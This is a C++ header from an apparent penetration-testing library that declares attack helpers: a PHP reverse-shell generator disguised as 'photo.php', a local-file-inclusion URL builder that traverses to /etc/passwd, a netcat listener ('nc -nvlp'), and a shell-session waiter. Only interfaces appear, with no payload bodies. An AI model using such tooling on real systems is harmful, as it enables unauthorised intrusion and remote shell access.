#pragma once

#include <chrono>
#include <filesystem>
#include <optional>
#include <string>
#include <string_view>

#include "pentestxx/common/ipv4.hpp"
#include "pentestxx/toolio/backend.hpp"
#include "pentestxx/toolio/command.hpp"

namespace pentestxx::payloads {

inline constexpr int kDefaultTraversalDepth = 7;
inline constexpr std::chrono::seconds kDefaultListenerTimeout{30};

struct ReverseShellSpec {
  Ipv4 attacker_ip;
  int port = 0;
  std::string body;
  std::string filename;
};

/// PHP one-liner that connects a bash shell back to ip:port. The filename is
/// image-like with a .php suffix ("photo.php") unless overridden.
ReverseShellSpec make_php_reverse_shell(Ipv4 attacker_ip, int port, std::string filename = "photo.php");

struct ShellEndpoint {
  Ipv4 ip;
  int port = 0;
  friend bool operator==(const ShellEndpoint&, const ShellEndpoint&) = default;
};

/// Recovers the connect-back address from a generated body.
std::optional<ShellEndpoint> parse_reverse_shell(std::string_view body);

struct LfiTarget {
  std::string base_url;    // http://host:port
  std::string param_path;  // /dev/index.php?p=action.search&action=
  int depth = kDefaultTraversalDepth;
  std::string target_file = "/etc/passwd";
};

std::string make_lfi_url(const LfiTarget& target);

/// nc -nvlp <port>; attacker-local so no gate is required.
toolio::CommandSpec make_listener(int port);

toolio::ShellSessionHandle await_connection(toolio::Listener& listener,
                                            std::chrono::milliseconds timeout = kDefaultListenerTimeout);

struct CheckedKey {
  std::filesystem::path path;
  std::filesystem::perms before;
  bool changed = false;
};

/// Ensures owner read/write only (chmod 600). Idempotent. Throws
/// Error(not_found) for a missing file, Error(io_error) when chmod fails.
CheckedKey key_permission_contract(const std::filesystem::path& key);

}  // namespace pentestxx::payloads
